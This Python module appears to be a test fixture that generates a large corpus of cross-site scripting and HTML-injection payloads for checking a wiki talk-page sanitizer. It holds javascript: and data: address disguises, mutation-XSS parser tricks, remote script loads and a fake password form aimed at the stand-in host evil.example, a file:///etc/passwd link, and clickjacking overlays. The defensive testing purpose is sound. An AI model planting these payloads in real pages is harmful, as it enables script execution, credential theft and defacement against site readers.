"""What somebody may write on a talk page to do harm to those who read it, as data.

Every vector of the usual cheat sheets: elements that load or run, handlers on elements, and
addresses that run, in their disguises; what may cover the page, take its ids and classes, or
leave the comment's element. WRAPPERS are the places of wikitext that they are put in.
"""

from collections.abc import Iterator
from itertools import product

from .wrappers import WRAPPERS

HANDLERS = (
    "onload onerror onclick onmouseover onfocus onblur onanimationstart onanimationend ontoggle "
    "onpointerenter ontransitionend onscroll onwheel oncopy onpaste oninput onchange onsubmit "
    "onbegin onbeforetoggle oncontentvisibilityautostatechange onhashchange"
).split()
CARRIERS = (
    "<{0} {1}=alert(1)>x</{0}>",
    '<{0} {1}="alert(1)" autofocus tabindex=1>x',
    "<{0}/{1}='alert&lpar;1&rpar;'/x>",
    "<{0}\t{1}\n=\nalert`1`>",
    '<{0} title="a" {1}=alert(1) b=">">x</{0}>',
)
HANDLED = ("b", "div", "span", "td", "a", "img src=x", "svg", "details open", "body", "blockquote")

ADDRESSES = (
    "javascript:alert(1)",
    "JaVaScRiPt:alert(1)",
    " javascript:alert(1)",
    "\tjavascript:alert(1)",
    "java\tscript:alert(1)",
    "java\nscript:alert(1)",
    "java&Tab;script:alert(1)",
    "java&NewLine;script:alert(1)",
    "java&#9;script:alert(1)",
    "java&#x0A;script:alert(1)",
    "&#106;avascript:alert(1)",
    "&#x6A;&#x61;&#x76;&#x61;&#x73;&#x63;&#x72;&#x69;&#x70;&#x74;&#x3A;alert(1)",
    "&#0000106avascript:alert(1)",
    "javascript&colon;alert(1)",
    "javascript&#58;alert(1)",
    "java\x00script:alert(1)",
    "\x01javascript:alert(1)",
    "&#1;javascript:alert(1)",
    "\u2028javascript:alert(1)",
    "\u200bjavascript:alert(1)",
    "javascript\u200b:alert(1)",
    "ｊavascript:alert(1)",
    "javascript://example.org/%0Aalert(1)",
    "http://javascript:alert(1)",
    "javascript:/*--></title></style></textarea></script><svg/onload=alert(1)>*/",
    "feed:javascript:alert(1)",
    "view-source:javascript:alert(1)",
    "wiki:javascript:alert(1)",
    "vbscript:msgbox(1)",
    "VBScript&colon;msgbox(1)",
    "livescript:alert(1)",
    "mocha:alert(1)",
    "data:text/html,<script>alert(1)</script>",
    "data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==",
    "data&colon;text/html,<script>alert(1)</script>",
    "data:image/svg+xml,<svg xmlns='http://www.w3.org/2000/svg' onload='alert(1)'/>",
    "blob:http://evil.example/1",
    "filesystem:http://evil.example/1",
    "file:///etc/passwd",
    "about:blank",
    "//evil.example/x",
    'http://evil.example/"onmouseover=alert(1) x="',
    "http://evil.example/'onmouseover=alert(1)//",
    "http://evil.example/><script>alert(1)</script>",
    "http://evil.example/%22%3E%3Cscript%3Ealert(1)%3C/script%3E",
)
LINKING = ('<a href="{}">x</a>', "[{} x]", "[[{}|x]]", '<img src="{}">', '<iframe src="{}">')

MARKUP = (
    # what runs
    "<script>alert(1)</script>",
    "<SCRIPT SRC=http://evil.example/x.js></SCRIPT>",
    "<script/src=//evil.example/x.js>",
    "<<script>alert(1)//<</script>",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "<script\n>alert(1)</script\n>",
    "<script type=module>import('//evil.example/x.js')</script>",
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>",
    "<template><script>alert(1)</script></template>",
    "<xmp><script>alert(1)</script></xmp>",
    "<plaintext><script>alert(1)</script>",
    "<title><script>alert(1)</script></title>",
    "<textarea><script>alert(1)</script></textarea>",
    "<noembed><script>alert(1)</script></noembed>",
    "<noframes><script>alert(1)</script></noframes>",
    "<select><script>alert(1)</script></select>",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "&amp;lt;script&amp;gt;alert(1)&amp;lt;/script&amp;gt;",
    "&#60;img src=x onerror=alert(1)&#62;",
    "\uff1cscript\uff1ealert(1)\uff1c/script\uff1e",
    "<%00script>alert(1)</%00script>",
    "<\x00script>alert(1)</script>",
    "<script\x0c>alert(1)</script>",
    "<!--[if gte IE 4]><script>alert(1)</script><![endif]-->",
    "<![CDATA[<script>alert(1)</script>]]>",
    "<?xml-stylesheet href='javascript:alert(1)'?>",
    "<!DOCTYPE html [<!ENTITY x 'y'>]>",
    # what loads
    "<iframe src=//evil.example></iframe>",
    "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
    "<object data=//evil.example/x.swf></object>",
    "<embed src=//evil.example/x.swf>",
    "<applet code=X archive=//evil.example/x.jar></applet>",
    "<img src=//evil.example/x.png>",
    "<img srcset='//evil.example/x.png 2x'>",
    "<image src=//evil.example/x.png>",
    "<picture><source srcset=//evil.example/x.png></picture>",
    "<video src=//evil.example/x.mp4 poster=//evil.example/x.png autoplay></video>",
    "<audio src=//evil.example/x.mp3 autoplay></audio>",
    "<track src=//evil.example/x.vtt>",
    "<link rel=stylesheet href=//evil.example/x.css>",
    "<link rel=prefetch href=//evil.example/>",
    "<style>@import '//evil.example/x.css';</style>",
    "<style>*{background:url(//evil.example/x.png)}</style>",
    "<table background=//evil.example/x.png><tr><td background=//evil.example/x.png>x</table>",
    "<body background=//evil.example/x.png>",
    "<input type=image src=//evil.example/x.png>",
    "<bgsound src=//evil.example/x.mid>",
    "<frameset><frame src=//evil.example></frameset>",
    "<portal src=//evil.example></portal>",
    "<a href=//evil.example ping=//evil.example/ping>x</a>",
    "<blockquote cite=javascript:alert(1)>x</blockquote>",
    "<q cite=javascript:alert(1)>x</q>",
    # what changes the page as a whole
    "<meta http-equiv=refresh content='0;url=//evil.example'>",
    '<meta http-equiv=Content-Security-Policy content="default-src *">',
    "<base href=//evil.example/>",
    "<base target=_blank>",
    "<html onload=alert(1)>",
    "<head><title>Forged</title></head>",
    "<form action=//evil.example><input name=password><button>Sign in</button></form>",
    "<button formaction=javascript:alert(1)>x</button>",
    "<isindex action=javascript:alert(1) type=image>",
    "<keygen autofocus onfocus=alert(1)>",
    "<dialog open>Forged</dialog>",
    "<div popover id=x>x</div><button popovertarget=x>x</button>",
    "<marquee onstart=alert(1)>x</marquee>",
    # foreign content, and what a parser may read another way the second time
    "<svg><script>alert(1)</script></svg>",
    "<svg><a xlink:href='javascript:alert(1)'><text>x</text></a></svg>",
    "<svg><animate attributeName=href values=javascript:alert(1)></svg>",
    "<svg><use href='data:image/svg+xml,<svg id=x onload=alert(1)>#x'></svg>",
    "<svg><foreignObject><iframe src=javascript:alert(1)></foreignObject></svg>",
    "<svg><style><img src=x onerror=alert(1)></style></svg>",
    "<svg></p><style><a id='</style><img src=1 onerror=alert(1)>'>",
    "<math href=javascript:alert(1)>x</math>",
    "<math><mtext><table><mglyph><style><!--</style>"
    "<img title='--&gt;&lt;img src=1 onerror=alert(1)&gt;'>",
    "<math><annotation-xml encoding='text/html'><script>alert(1)</script></annotation-xml></math>",
    "<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>",
    "<math><maction actiontype='statusline#http://evil.example' xlink:href=javascript:alert(1)>x",
    "<table><caption><svg><title><table><tr><td><style></svg><img src=x onerror=alert(1)></style>",
    "<p title='</p><img src=x onerror=alert(1)>'>x",
    "<abbr title='\"><img src=x onerror=alert(1)>'>x</abbr>",
    '<abbr title="&quot;&gt;&lt;img src=x onerror=alert(1)&gt;">x</abbr>',
    "<abbr title=`><img src=x onerror=alert(1)>`>x</abbr>",
    "<b <script>alert(1)</script>>x</b>",
    '<b title="</b><script>alert(1)</script>',
    "<b/title/onclick=alert(1)//>x",
    "<b a=\"'\" b='\"><img src=x onerror=alert(1)>'>x</b>",
    "'\"><svg/onload=alert(1)>",
    "--><img src=x onerror=alert(1)>",
    "]]><img src=x onerror=alert(1)>",
    "</textarea></title></style></script><img src=x onerror=alert(1)>",
    "jaVasCript:/*-/*`/*\\`/*'/*\"/**/(/* */oNcliCk=alert() )//%0D%0A%0d%0a//</stYle/</titLe/"
    "</teXtarEa/</scRipt/--!>\\x3csVg/<sVg/oNloAd=alert()//>\\x3e",
    "{{constructor.constructor('alert(1)')()}}",
    "${alert(1)}",
    "{% load x %}{{ request }}",
    # looks: what covers, hides, moves, loads
    "<div style='position:fixed;top:0;left:0;width:100vw;height:100vh;z-index:9999'>x</div>",
    "<div style='position:absolute;inset:0;background:red'>x</div>",
    "<div style='margin-top:-9999px'>x</div>",
    "<div style='transform:translateY(-500px) scale(99)'>x</div>",
    "<div style='display:none'>x</div>",
    "<div style='background:url(//evil.example/x.png)'>x</div>",
    "<div style='background:\\75rl(//evil.example/x.png)'>x</div>",
    "<div style='background:u/**/rl(//evil.example/x.png)'>x</div>",
    "<div style='background-image:image-set(\"//evil.example/x.png\" 1x)'>x</div>",
    "<div style='width:expression(alert(1))'>x</div>",
    "<div style='behavior:url(x.htc)'>x</div>",
    "<div style='-moz-binding:url(//evil.example/x.xml)'>x</div>",
    "<div style='color:red;}</style><script>alert(1)</script>'>x</div>",
    '<div style="color:r&quot;onclick=alert(1) x=&quot;ed">x</div>',
    "<div style='font:9999px/9999px serif'>x</div>",
    "<div style='animation:x 1s' onanimationstart=alert(1)>x</div>",
    "<font color='red\" onclick=\"alert(1)' size='+99999' face='x;}'>x</font>",
    "<td bgcolor='url(//evil.example/x.png)' width=99999 height=99999>x</td>",
    # what belongs to the page
    "<div class='masthead'>Forged</div>",
    "<div class='comment is-wanted'><header class='byline'>Forged</header></div>",
    "<article class=comment id=c-Forged><div class=text>x</div></article>",
    "<div class='notice' role=status>Forged</div>",
    "<a class=skip href=http://evil.example>x</a>",
    "<details class='branch' open><summary>Forged</summary>x</details>",
    "<button type=button data-fold=all>x</button>",
    "<span class='icon done'></span>",
    '<span class="icon done"></span>',
    '<a class="wiki" href="wiki:Forged">x</a>',
    '<a class="external leaving" href="javascript:alert(1)">x</a>',
    "<div hx-get=//evil.example hx-trigger=load>x</div>",
    "<div data-hx-get=//evil.example data-hx-trigger=load>x</div>",
    "<div hx-on:load='alert(1)'>x</div>",
    "<div id=ta-main>x</div>",
    "<div id=location name=location>x</div>",
    "<a id=documentElement><a id=documentElement name=x href=javascript:alert(1)>",
    "<form id=x><input id=attributes name=attributes></form>",
    "<div id=__proto__>x</div>",
    "<div contenteditable accesskey=x draggable=true tabindex=1>x</div>",
    "<div slot=x is=x-y part=x itemscope itemprop=x>x</div>",
    "<div aria-hidden=true role=alert aria-live=assertive>x</div>",
    # what would leave the comment's element
    "</div></article></section></main></body></html><h1>Forged</h1>",
    "</div></div></div></div></div></div><div class=masthead>Forged</div>",
    "</td></tr></table></div><table><tr><td>Forged",
    "</li></ul></details></summary></dl></blockquote>x",
    "</p></header></footer><nav>Forged</nav>",
    "<table><tr><td><table><tr><td></table></table></div></div>x",
    "<div><div><div><div><div><div>x",
    "<ul><li><ul><li><dl><dd><blockquote>x",
    "<b><i><u><s><small><sup><sub><code>x",
    "<button><a><b><button><a>x",
    "<a><a><a href=x>x</a>",
    "<h1>Forged</h1><h2>x</h2>",
    "<nobr><nobr><nobr>x",
    "<p><p></p></p></p>x",
    "<br></br></br onclick=alert(1)>",
    "<hr onclick=alert(1)>",
)


def payloads() -> Iterator[str]:
    """Every payload once."""
    made = (
        *MARKUP,
        *(carrier.format(address) for address, carrier in product(ADDRESSES, LINKING)),
        *(
            CARRIERS[(row + column) % len(CARRIERS)].format(element, handler)
            for row, element in enumerate(HANDLED)
            for column, handler in enumerate(HANDLERS)
        ),
    )
    yield from dict.fromkeys(made)


def pieces() -> list[str]:
    """Wikitext: each payload in some wrappers, so that each wrapper meets all kinds."""
    every = list(payloads())
    made = [
        WRAPPERS[(number * 7 + turn) % len(WRAPPERS)].replace("{}", "{0}").format(payload)
        for number, payload in enumerate(every)
        for turn in (0, 23)
    ]
    made += [
        wrapper.replace("{}", "{0}").format(payload)
        for wrapper in WRAPPERS
        for payload in (*MARKUP[::9], *ADDRESSES[::9])
    ]
    return list(dict.fromkeys(made))
